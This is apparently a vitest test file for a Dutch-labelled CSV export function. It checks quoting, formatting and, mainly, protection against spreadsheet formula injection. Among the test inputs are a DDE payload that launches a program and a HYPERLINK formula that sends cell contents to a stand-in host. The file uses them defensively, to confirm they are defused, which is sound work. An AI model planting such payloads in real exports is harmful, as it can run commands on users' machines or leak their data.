import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Cel, writeCsv } from './csv.ts'

const single = [{ kop: 'waarde', cel: (row: Cel) => row }]

/** The cells below the header, read by another program. */
function read(csv: string): string[][] {
  const options = { delimiter: ';', bom: true, relax_column_count: false, skip_empty_lines: false }
  return (parse(csv, options) as string[][]).slice(1)
}

describe('writeCsv', () => {
  it('starts with a byte order mark and the headers, and ends every line with CRLF', () => {
    const kolommen = [
      { kop: 'Naam', cel: (row: { naam: string }) => row.naam },
      { kop: 'Actief', cel: () => true },
    ]

    expect(writeCsv(kolommen, [{ naam: 'Zoë' }])).toBe('\uFEFFNaam;Actief\r\nZoë;ja\r\n')
    expect(writeCsv(kolommen, [])).toBe('\uFEFFNaam;Actief\r\n')
  })

  it('quotes separators, quotes, line breaks and outer spaces', () => {
    const [cells] = read(
      writeCsv(
        [
          { kop: 'a', cel: () => 'een; "twee"\nregel' },
          { kop: 'b', cel: () => ' x ' },
        ],
        [1],
      ),
    )

    expect(cells).toEqual(['een; "twee"\nregel', ' x '])
  })

  it('writes numbers, moments and nothing as a spreadsheet reads them', () => {
    const values: Cel[] = [1.5, -3, true, false, null, undefined, new Date('2026-11-21T10:00:00Z')]

    expect(writeCsv(single, values).split('\r\n').slice(1, -1)).toEqual([
      '1,5',
      '-3',
      'ja',
      'nee',
      '',
      '',
      '2026-11-21T10:00:00.000Z',
    ])
  })

  it.each([
    '=1+1',
    '+31 6 12345678',
    '-2',
    '@SUM(A1)',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n\n=1+1',
    '\u0000=1+1',
    '\u200b=1+1',
    '\u00a0+1',
    '＝1+1',
    '\tgewone tekst',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?q="&A1;"klik")',
  ])('makes a formula harmless: %j', (text) => {
    expect(read(writeCsv(single, [text]))[0]?.[0]).toMatch(/^'/)
  })

  it.each(['Jan-Willem', "'t Hof", 'a=b', '3+4', 'e@mail.nl', '(=1)'])('leaves ordinary text alone: %s', (text) => {
    expect(read(writeCsv(single, [text]))).toEqual([[text]])
  })

  it('never yields a cell that runs, and never loses a character', () => {
    const nasty = fc.string({
      unit: fc.constantFrom(...' \t\r\n;,"\'=+-@\u0000\u00a0\u200bAé1'.split('')),
      maxLength: 12,
    })
    fc.assert(
      fc.property(fc.array(fc.tuple(nasty, nasty), { maxLength: 5 }), (rows) => {
        const kolommen = [0, 1].map((at) => ({ kop: `k${at}`, cel: (row: [string, string]) => row[at as 0 | 1] }))

        const found = read(writeCsv(kolommen, rows))

        expect(found.map((cells) => cells.map((cell) => cell.replace(/^'/, '')))).toEqual(
          rows.map((cells) => cells.map((cell) => cell.replace(/^'/, ''))),
        )
        for (const cell of found.flat()) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+\-@]/u)
      }),
      { numRuns: 500 },
    )
  })
})
